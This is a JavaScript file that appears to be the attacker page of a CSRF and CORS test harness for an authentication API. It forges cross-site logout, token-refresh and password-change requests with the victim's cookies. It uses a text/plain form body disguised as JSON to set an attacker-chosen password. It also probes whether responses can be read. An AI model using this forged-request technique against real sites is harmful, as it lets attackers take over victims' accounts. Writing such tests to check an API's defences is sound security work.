'use strict';
// ?api=<API base>&attack=<what>&password=<the victim's password, to make the forged password
// change as valid as it can be>. The outcome of the fetch attacks goes to #results as JSON, with
// data-done="true" when all of them have settled.
const params = new URLSearchParams(location.search);
const api = params.get('api');
const attack = params.get('attack');
const knownPassword = params.get('password') || 'guessed-password';
const passwordChange = { current_password: knownPassword, new_password: 'chosen-by-the-attacker-1' };

// The classic JSON-through-a-form trick: a text/plain body that reads as JSON.
const payload = document.getElementById('password-payload');
const json = JSON.stringify(Object.assign({}, passwordChange, { padding: '' }));
payload.name = json.slice(0, -2);
payload.value = '"}';

document.getElementById('form-logout-all').action = api + '/auth/logout-all';
document.getElementById('form-logout').action = api + '/auth/logout';
document.getElementById('form-refresh').action = api + '/auth/refresh';
document.getElementById('form-password').action = api + '/users/me/password';

async function attempt(name, path, init) {
  try {
    const response = await fetch(api + path, Object.assign({ credentials: 'include' }, init));
    let body;
    try {
      body = await response.text();
    } catch (error) {
      body = 'unreadable: ' + error;
    }
    return { name, outcome: 'response', type: response.type, status: response.status, body };
  } catch (error) {
    return { name, outcome: 'error', error: String(error) };
  }
}

async function fetchAttacks() {
  const results = [];
  // Simple requests the browser sends without asking: the answers are opaque to this page.
  results.push(await attempt('no-cors POST /auth/logout-all', '/auth/logout-all', { method: 'POST', mode: 'no-cors' }));
  results.push(await attempt('no-cors POST /auth/logout', '/auth/logout', { method: 'POST', mode: 'no-cors' }));
  results.push(await attempt('no-cors POST /auth/refresh', '/auth/refresh', { method: 'POST', mode: 'no-cors' }));
  results.push(await attempt('no-cors POST /users/me/password', '/users/me/password', {
    method: 'POST', mode: 'no-cors', headers: { 'Content-Type': 'text/plain' }, body: JSON.stringify(passwordChange) }));
  // Attempts to read: a simple CORS request and one that needs a preflight.
  results.push(await attempt('cors GET /users/me', '/users/me', { method: 'GET', mode: 'cors' }));
  results.push(await attempt('cors POST /auth/logout-all', '/auth/logout-all', { method: 'POST', mode: 'cors' }));
  results.push(await attempt('cors POST /users/me/password (JSON, preflighted)', '/users/me/password', {
    method: 'POST', mode: 'cors', headers: { 'Content-Type': 'application/json' }, body: JSON.stringify(passwordChange) }));
  const out = document.getElementById('results');
  out.textContent = JSON.stringify(results, null, 2);
  out.dataset.done = 'true';
}

if (attack === 'fetch') {
  fetchAttacks();
} else if (attack && document.getElementById('form-' + attack)) {
  document.getElementById('form-' + attack).submit();
}
